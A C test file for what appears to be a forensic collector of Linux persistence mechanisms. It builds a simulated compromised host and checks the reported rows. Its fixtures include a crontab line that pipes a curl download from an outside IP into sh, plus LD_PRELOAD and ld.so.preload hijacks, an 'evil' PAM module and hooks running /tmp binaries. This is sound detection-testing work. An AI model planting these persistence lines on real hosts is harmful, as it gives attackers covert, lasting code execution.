/* The persistence collector: what a made host runs by itself, hostile files, a failing sink. */
#include <fcntl.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "check.h"
#include "collector.h"
#include "host.h"
#include "sink_list.h"
#include "temp.h"
#include "walk_root.h"

#define TABLE "persistence.ndjson"

static struct temp top;

static int run(struct sink *s, bool with_secrets)
{
	return walk_root(&collector_persistence, &top, s, with_secrets);
}

static bool row(const struct sink *s, const char *a, const char *b, const char *c)
{
	bool found = sink_list_row(s, TABLE, a, b, c) != NULL;

	if (!found)
		printf("# no row with %s, %s, %s\n", a, b, c != NULL ? c : "");
	return found;
}

static void make(void)
{
	temp_put(&top, "etc/passwd", "root:x:0:0::/root:/bin/sh\neve:x:1:1::/home/eve:/bin/sh\ndup:x:2:2::/home/eve:/bin/sh\n");
	temp_put(&top, "etc/ld.so.preload", "# nothing\n/tmp/.x/libhide.so\n");
	temp_put(&top, "etc/crontab", "SHELL=/bin/sh\n17 * * * * root run-parts /etc/cron.hourly\n@reboot eve /tmp/x --password=hunter22\nbad\n");
	temp_put(&top, "var/spool/cron/crontabs/eve", "*/5 * * * * curl http://198.51.100.7/a | sh\n");
	temp_put(&top, "etc/cron.daily/job", "#!/bin/sh\n");
	(void)fchmodat(top.fd, "etc/cron.daily/job", 0755, 0);
	temp_put(&top, "etc/cron.daily/off", "#!/bin/sh\n");
	temp_put(&top, "usr/lib/systemd/system/a.service", "[Service]\nExecStart=/usr/bin/a \\\n  --one\nUser=nobody\n");
	temp_put(&top, "etc/systemd/system/evil@.service", "[Service]\n; comment\nExecStart=\nExecStartPre=-/tmp/evil %i\n");
	temp_put(&top, "etc/systemd/system/evil.timer", "[Timer]\nOnCalendar=*:0/5\n");
	temp_put(&top, "etc/systemd/system/a.service.d/over.conf", "[Service]\nEnvironment=LD_PRELOAD=/tmp/l.so\n");
	temp_put(&top, "etc/systemd/system/empty.service", "[Unit]\n");
	temp_link(&top, "etc/systemd/system/multi-user.target.wants/evil@1.service", "/etc/systemd/system/evil@.service");
	temp_link(&top, "lib", "usr/lib");
	temp_put(&top, "home/eve/.config/systemd/user/home.service", "[Service]\nExecStart=%h/.x\n");
	temp_put(&top, "etc/pam.d/sshd", "auth [success=1 default=ignore] pam_evil.so use_first_pass\n@include common-auth\nauth [broken\n");
	temp_put(&top, "etc/udev/rules.d/99-x.rules", "ACTION==\"add\", RUN+=\"/tmp/u\"\nKERNEL==\"x\"\n");
	temp_put(&top, "etc/apt/apt.conf.d/99x", "APT::Update::Pre-Invoke {\"/tmp/a\";};\nAPT::Other \"1\";\n");
	temp_put(&top, "etc/ssh/sshd_config", "AuthorizedKeysFile .ssh/authorized_keys /etc/keys/%u %h/.own%%\nPermitRootLogin yes\nX11Forwarding no\n");
	temp_put(&top, "etc/ssh/ssh_host_ed25519_key", "-----BEGIN OPENSSH PRIVATE KEY-----\nSECRETSECRET\n-----END OPENSSH PRIVATE KEY-----\n");
	temp_put(&top, "root/.ssh/authorized_keys", "command=\"/tmp/ssh-x\",no-pty ssh-ed25519 AAAA root@x\nodd\n");
	temp_put(&top, "etc/keys/eve", "ssh-rsa BBBB eve@x\n");
	temp_put(&top, "home/eve/.own%", "ssh-rsa CCCC eve@y\n");
	temp_put(&top, "home/eve/.config/autostart/x.desktop", "[Desktop Entry]\nExec=/tmp/d\nName=x\n");
	temp_put(&top, "home/eve/.bashrc", "alias sudo=/tmp/s\n");
	temp_put(&top, "etc/environment", "LD_PRELOAD=/tmp/e.so\n");
	temp_put(&top, "var/lib/cloud/scripts/per-boot/x", "#!/bin/sh\n");
	temp_put(&top, "var/spool/cron/atjobs/a0001", "#!/bin/sh\n# atrun uid=0 gid=0\n");
	temp_put(&top, "real.conf", "evil_module\n");
	temp_link(&top, "etc/modules-load.d/x.conf", "../../real.conf");
	(void)mkfifoat(top.fd, "etc/cron.d", 0600);
	(void)mkdirat(top.fd, "etc/profile.d", 0755);
	(void)mkfifoat(top.fd, "etc/profile.d/x.sh", 0600);
}

static void test_system(const struct sink *s)
{
	CHECK(row(s, "\"kind\":\"preload\"", "\"line_number\":2", "\"runs\":\"/tmp/.x/libhide.so\""), "ld.so.preload");
	CHECK(row(s, "\"path\":\"/etc/crontab\"", "\"schedule\":\"17 * * * *\",\"user\":\"root\"", "\"runs\":\"run-parts /etc/cron.hourly\""), "a cron line");
	CHECK(row(s, "\"name\":\"SHELL\"", "\"runs\":\"/bin/sh\"", NULL), "its environment");
	CHECK(row(s, "\"runs\":\"/tmp/x --password=***\",\"masked\":true", "\"schedule\":\"@reboot\",\"user\":\"eve\"", NULL), "at the start, a secret masked");
	CHECK(row(s, "crontabs/eve", "\"runs\":\"curl http://198.51.100.7/a | sh\"", "\"user\":\"eve\""), "a user's");
	CHECK(row(s, "/etc/cron.daily/job", "\"enabled\":true", NULL) && row(s, "/etc/cron.daily/off", "\"enabled\":false", NULL), "scripts");
	CHECK(row(s, "atjobs/a0001", "\"kind\":\"at\"", NULL), "at");
	CHECK(row(s, "\"kind\":\"pam\"", "\"name\":\"auth\",\"runs\":\"pam_evil.so use_first_pass\"", NULL), "PAM");
	CHECK(row(s, "\"kind\":\"udev\"", "\"name\":\"RUN\",\"runs\":\"\\\"/tmp/u\\\"\"", NULL), "udev");
	CHECK(row(s, "\"kind\":\"package_hook\"", "Pre-Invoke", "/tmp/a"), "a package hook");
	CHECK(row(s, "\"kind\":\"environment\"", "\"name\":\"LD_PRELOAD\",\"runs\":\"/tmp/e.so\"", NULL), "the environment of all");
	CHECK(row(s, "\"kind\":\"module\"", "\"runs\":\"evil_module\"", NULL) && sink_list_find(s, "files/real.conf") != NULL,
	      "a module, behind a link, whose target comes too");
	CHECK(row(s, "\"kind\":\"cloud_init\"", "per-boot/x", NULL), "a script of each boot");
}

static void test_units(const struct sink *s)
{
	CHECK(row(s, "\"unit\":\"a.service\",\"name\":\"ExecStart\",\"runs\":\"/usr/bin/a   --one\"", "\"line_number\":2", "\"enabled\":false"), "a unit, lines joined");
	CHECK(row(s, "\"unit\":\"evil@.service\",\"name\":\"ExecStartPre\"", "\"enabled\":true", "/tmp/evil"), "a template that a link enables");
	CHECK(row(s, "\"unit\":\"evil.timer\"", "\"schedule\":\"*:0/5\"", NULL), "a timer");
	CHECK(row(s, "a.service.d/over.conf", "\"unit\":\"a.service\"", "LD_PRELOAD=/tmp/l.so"), "a drop-in");
	CHECK(row(s, "\"path\":\"/etc/systemd/system/empty.service\"", "\"unit\":\"empty.service\",\"enabled\"", NULL), "one that runs nothing");
	CHECK(sink_list_row(s, TABLE, "\"path\":\"/lib/systemd/system/a.service\"", NULL, NULL) == NULL, "/lib once");
	CHECK(row(s, "\"kind\":\"systemd_user\"", "\"unit\":\"home.service\"", "\"user\":\"eve\""), "a user's");
}

static void test_users(const struct sink *s)
{
	CHECK(row(s, "\"name\":\"PermitRootLogin\",\"runs\":\"yes\"", "\"kind\":\"ssh\"", NULL), "sshd");
	CHECK(row(s, "\"kind\":\"ssh_key\"", "\"name\":\"command=\\\"/tmp/ssh-x\\\",no-pty\",\"runs\":\"ssh-ed25519 AAAA root@x\"", "\"user\":\"root\""), "a key with a command");
	CHECK(row(s, "\"path\":\"/etc/keys/eve\"", "BBBB", "\"user\":\"eve\"") && row(s, "/home/eve/.own%", "CCCC", NULL), "keys where sshd_config says");
	CHECK(row(s, "\"kind\":\"autostart\"", "\"runs\":\"/tmp/d\"", NULL), "autostart");
	CHECK(row(s, "\"path\":\"/home/eve/.bashrc\"", "\"kind\":\"shell\"", "\"user\":\"eve\""), "rc files");
	CHECK(sink_list_find(s, "files/home/eve/.bashrc") != NULL && sink_list_find(s, "files/etc/ld.so.preload") != NULL &&
	      sink_list_find(s, "files/home/eve/.config/systemd/user/home.service") != NULL, "files whole");
}

static size_t secrets(const struct sink *s)
{
	size_t found = 0;

	for (size_t i = 0; i < sink_list_count(s); i++)
		found += memmem(sink_list_at(s, i)->data, sink_list_at(s, i)->len, "SECRETSECRET", 12) != NULL ||
			 memmem(sink_list_at(s, i)->data, sink_list_at(s, i)->len, "hunter22", 8) != NULL;
	return found;
}

int main(void)
{
	struct sink *s = sink_list_open();
	unsigned long calls;

	temp_open(&top);
	CHECK(run(s, false) == 0 && sink_list_gaps(s, "", NULL) == 0, "an empty host");
	sink_list_free(s);
	make();
	s = sink_list_open();
	CHECK(run(s, false) == 0, "the host is read");
	test_system(s);
	test_units(s);
	test_users(s);
	CHECK(sink_list_gaps(s, "", NULL) == 0, "a FIFO where a directory should be, and one as a script: no wait, no gap");
	CHECK(secrets(s) == 0, "no secret");
	calls = sink_list_calls(s);
	sink_list_free(s);
	s = sink_list_open();
	CHECK(run(s, true) == 0 && secrets(s) == 3, "but when they are asked for");
	sink_list_free(s);
	CHECK(walk_root_failing(&collector_persistence, &top, calls) == 0, "a sink that fails at any of %lu calls ends it", calls);
	temp_close(&top);
	return CHECK_DONE();
}
